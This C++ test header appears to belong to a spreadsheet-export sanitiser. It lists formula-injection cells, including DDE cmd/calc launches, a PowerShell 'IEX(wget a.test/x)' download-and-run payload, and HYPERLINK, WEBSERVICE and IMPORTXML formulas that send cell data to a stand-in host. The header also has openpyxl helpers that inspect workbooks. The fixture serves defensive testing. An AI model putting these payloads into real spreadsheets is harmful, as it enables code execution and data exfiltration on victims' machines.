// Texts that spreadsheets have been known to calculate, link or execute, and the programs that tell whether one did.
#pragma once

#include <string>
#include <vector>

#include "core/json.h"
#include "tests/reports/figure_fixture.h"

namespace markwarden::testing {

// OWASP, "CSV Injection", and ASVS 4.0.3, 1.2.10 (V5.0: 1.2.10): = + - @ tab and CR first; their full-width forms; what hides the first character.
inline const std::vector<std::string>& DangerousCells() {
  static const std::vector<std::string> cells = {
      "=1+1",
      "=HYPERLINK(\"http://a.test/?x=\"&A1,\"details\")",
      "=HYPERLINK(\"http://a.test\")",
      "=cmd|' /C calc'!A0",
      "=cmd|'/C powershell IEX(wget a.test/x)'!A0",
      "+cmd|' /C calc'!A0",
      "-cmd|' /C calc'!A0",
      "@SUM(1+1)*cmd|' /C calc'!A0",
      "=MSEXCEL|'\\..\\..\\Windows\\System32\\cmd.exe /c calc'!''",
      "=DDE(\"cmd\",\"/C calc\",\"!A0\")",
      "=WEBSERVICE(\"http://a.test/\"&A1)",
      "=IMPORTXML(CONCAT(\"http://a.test/?v=\",A1),\"//a\")",
      "=IMPORTDATA(\"http://a.test/\")",
      "=IMAGE(\"http://a.test/x.png\")",
      "=INDIRECT(\"A1\")",
      "=EXEC(\"calc\")",
      "=1+1\";=1+1",
      "\"=1+1\"",
      "\"=1+1",
      "'=1+1",
      "+1+1",
      "+86-451-00000000",
      "-1+1",
      "-2+3+cmd|' /C calc'!A0",
      "--1",
      "-",
      "+",
      "=",
      "@",
      "@SUM(A1:A9)",
      "@a.test",
      "=@SUM(1,1)",
      "\t=1+1",
      "\r=1+1",
      "\n=1+1",
      "\r\n=1+1",
      "x\n=1+1",
      "x,=1+1",
      "x;=1+1",
      "x\t=1+1",
      " =1+1",
      "   =1+1",
      "\u00a0=1+1",
      "\u3000=1+1",
      "\u2003=1+1",
      "\u200b=1+1",
      "\ufeff=1+1",
      "\ufeff\ufeff=1+1",
      "\u2060@SUM(1)",
      "\u00ad=1+1",
      "\x01=1+1",
      "\x7f=1+1",
      "\u0085=1+1",
      "\u202e=1+1",
      "\u2066=1+1\u2069",
      "＝1+1",
      "＝HYPERLINK(\"http://a.test\")",
      "＋1+1",
      "－1+1",
      "＠SUM(1)",
      "　＝1+1",
      "\u200b＝1+1",
      "\ufe66" "1+1",
      "\u2212" "1+1",
      "{=1+1}",
      "=\u200b1+1",
      "=1+1\r\n",
      "_x003D_1+1",
      "_x000D_=1+1",
      "&#61;1+1",
      "%3D1+1",
      "=1+1]]>",
      "</t></is></c><c r=\"Z9\"><f>1+1</f></c>",
      "http://a.test/",
      "mailto:a@a.test",
      "file:///etc/passwd",
      "internal:Sheet1!A1",
      "external:c:\\x.xlsx",
      "TRUE",
      "#REF!",
      "1E400",
      "00123",
      "2026-11-26",
      "\xff=1+1",
  };
  return cells;
}

// What openpyxl finds in a workbook: a list of {"name","rows":[[[type, value], ...]]}, type "f" for a formula.  null when it cannot read the file.
inline Json OpenpyxlReads(const std::filesystem::path& workbook) {
  const std::filesystem::path script = ScratchFile("read.py",
                                                   "import json, math, sys, openpyxl\n"
                                                   "def plain(v): return v if v is None or isinstance(v, (str, int)) or (isinstance(v, float) and math.isfinite(v)) else str(v)\n"
                                                   "book = openpyxl.load_workbook(sys.argv[1])\n"
                                                   "print(json.dumps([{'name': s.title, 'links': sum(1 for r in s.iter_rows() for c in r if c.hyperlink),\n"
                                                   "  'rows': [[[c.data_type, plain(c.value), c.number_format] for c in r] for r in s.iter_rows()]} for s in book]))\n");
  const Result<Json> read = ParseJson(OutputOf("/usr/bin/python3 -I " + script.string() + " " + workbook.string()));
  return read ? *read : Json();
}

inline bool HaveOpenpyxl() { return HaveProgram("/usr/bin/python3 -I -c 'import openpyxl'"); }

// How many cells of which type ("f", "s", "n") there are, and how many links.
inline size_t CountCells(const Json& book, const std::string& type) {
  size_t count = 0;
  for (const Json& sheet : book) {
    for (const Json& row : sheet["rows"]) {
      for (const Json& cell : row) count += cell[0] == type;
    }
  }
  return count;
}

inline size_t CountLinks(const Json& book) {
  size_t count = 0;
  for (const Json& sheet : book) count += sheet["links"].get<size_t>();
  return count;
}

}  // namespace markwarden::testing
